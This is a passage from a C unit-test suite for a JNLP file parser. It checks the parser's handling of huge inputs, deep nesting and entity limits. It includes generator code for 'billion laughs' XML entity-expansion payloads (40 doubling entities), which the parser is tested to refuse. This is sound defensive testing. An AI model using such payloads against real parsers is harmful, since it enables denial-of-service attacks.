        pool, "<!--", repeated("<jnlp codebase='x'>", 20000), "--><jnlp` a='",
        repeated("> ", 200000), "' codebase='~http://h/",
        repeated("0123456789", 10000), "~'", repeated(" \n\t", 100000),
        "href='^b^'>", repeated("<jar href='/lib/a.jar'/>\n", 20000), "</jnlp>",
        NULL);
    ck_assert_int_gt((int)strlen(s.text), 1500000);
    check_sample(&s, s.text, 0);
    check_sample(&s, s.text, 3);
}
END_TEST

START_TEST(many_attributes)
{
    bytes b = {apr_palloc(pool, 40 * 20000), 0};
    sample s = {b.at, RAW, RAW};
    int i;

    add(&b, "<jnlp`", 6);
    for (i = 0; i < 20000; ++i) {
        char *attribute =
            apr_psprintf(pool, i == 9000 ? " href='^%d^'" : " href%d='>'", i);

        add(&b, attribute, strlen(attribute));
    }
    add(&b, " codebase='~c~'/>", 18);
    check_sample(&s, s.text, 1);
    check_sample(&s, s.text, 4);
}
END_TEST

START_TEST(deep_nesting)
{
    sample s = {NULL, RAW, RAW};

    s.text = apr_pstrcat(pool, "<jnlp` codebase='~c~' href='^h^'>",
                         repeated("<a>", 60000), repeated("</a>", 60000),
                         "</jnlp>", NULL);
    check_sample(&s, s.text, 0);
}
END_TEST

static void check_refused(const char *text, const char *wanted)
{
    const svb_jnlp *jnlp = NULL;
    char *copy;

    check_error(read_copy(bytes_of(text), &copy, &jnlp), wanted);
    ck_assert_ptr_null(jnlp);
    free(copy);
}

/* A DOCTYPE with entities e1 up to e<n>, each made by a format that takes the
 * number of the one before it, twice; and what follows. */
static const char *with_entities(int n, const char *format, const char *rest)
{
    bytes b = {apr_palloc(pool, 100 * ((apr_size_t)n + 2) + strlen(rest)), 0};
    int i;

    add(&b, "<!DOCTYPE jnlp [<!ENTITY e0 'http://h/'>", 40);
    for (i = 1; i <= n; ++i) {
        char *value = apr_psprintf(pool, format, i - 1, i - 1);
        char *entity = apr_psprintf(pool, "<!ENTITY e%d '%s'>", i, value);

        add(&b, entity, strlen(entity));
    }
    add(&b, "]>", 2);
    add(&b, rest, strlen(rest) + 1);
    return b.at;
}

/* Entities that double the text at each step: 2^40 bytes and more. */
START_TEST(billion_laughs)
{
    check_refused(with_entities(40, "&e%d;&e%d;", "<jnlp codebase='&e40;'/>"),
                  "");
    check_refused(
        with_entities(40, "&e%d;&e%d;", "<jnlp href='h'><a b='&e40;'/></jnlp>"),
        "");
    check_refused(
        with_entities(40, "&e%d;&e%d;",
                      "<!-- --><jnlp xmlns='&e39;' href='&e38;'>&e40;</jnlp>"),
        "");
}
END_TEST

/* In content they stay what they are: never expanded, so no harm. */
START_TEST(laughs_in_content)
{
    sample s = {NULL, NULL, RAW};

    s.text =
        with_entities(40, "&e%d;&e%d;",
                      apr_pstrcat(pool, "<jnlp` href='^b^'>",
                                  repeated("&e40;", 10000), "</jnlp>", NULL));
    check_sample(&s, s.text, 0);
    check_sample(&s, s.text, 2);
}
END_TEST

/* Each refers to the one before it: as deep as there are entities. */
START_TEST(chained_entities)
{
    sample s = {NULL, "http://h/", NULL};

    s.text =
        with_entities(255, "&e%d;", "<jnlp` codebase='~&e255;~'>&e9;</jnlp>");
    check_sample(&s, s.text, 0);
    check_refused(with_entities(256, "&e%d;", "<jnlp codebase='&e256;'/>"),
                  "declares more than 256 entities");
    check_refused(
        with_entities(200000, "&e%d;", "<jnlp codebase='&e200000;'/>"),
        "declares more than 256 entities");
}
END_TEST

/* The length is looked at before the text is. */
START_TEST(too_long)
{
    const svb_jnlp *jnlp = NULL;

    check_error(svb_jnlp_read(pool, "<jnlp/>", (apr_size_t)INT_MAX + 1, &jnlp),
                "too long");
    check_error(svb_jnlp_read(pool, "<jnlp/>", ~(apr_size_t)0, &jnlp),
                "too long");
    check_error(svb_jnlp_read(pool, NULL, 0, &jnlp), "is empty");
    ck_assert_ptr_null(jnlp);
}
END_TEST

static Suite *jnlp_suite(void)
{
    Suite *s = suite_create("svb_jnlp");
    TCase *tc = tcase_create("all");

    tcase_add_checked_fixture(tc, pool_setup, pool_teardown);
    tcase_add_loop_test(tc, vendor_samples, 0, COUNT(vendors));
    tcase_add_loop_test(tc, odd_samples, 0, COUNT(odd));
    tcase_add_loop_test(tc, bytewise_samples, 0, COUNT(bytewise));
    tcase_add_loop_test(tc, refuses, 0, COUNT(refused));
    tcase_add_test(tc, refuses_mixed_encodings);
    tcase_add_loop_test(tc, truncated, 0, 2);
    tcase_add_loop_test(tc, one_byte_changed, 0, COUNT(encodings));
    tcase_add_test(tc, long_documents);
    tcase_add_test(tc, many_attributes);
    tcase_add_test(tc, deep_nesting);
    tcase_add_test(tc, billion_laughs);
    tcase_add_test(tc, laughs_in_content);
    tcase_add_test(tc, chained_entities);
    tcase_add_test(tc, too_long);
    tcase_set_timeout(tc, 60);
    suite_add_tcase(s, tc);
    return s;
}

int main(void)
{
    return unit_run(srunner_create(jnlp_suite()));
}
